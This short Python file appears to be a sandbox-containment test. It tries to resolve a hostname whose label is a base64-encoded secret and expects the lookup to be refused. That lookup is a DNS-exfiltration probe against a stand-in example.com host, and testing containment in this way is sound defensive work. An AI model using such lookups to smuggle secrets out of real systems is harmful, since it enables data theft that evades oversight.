"""Resolve a name
tries: getaddrinfo of a name with a secret in it
expect: refused: no name is known
"""
from attack import *


def attack():
    name = HINTS.get("name", "c2VjcmV0.example.com")
    try:
        return f"{name} is {socket.getaddrinfo(name, 80)[0][4][0]}"
    except socket.gaierror as e:
        raise Contained(str(e)) from None
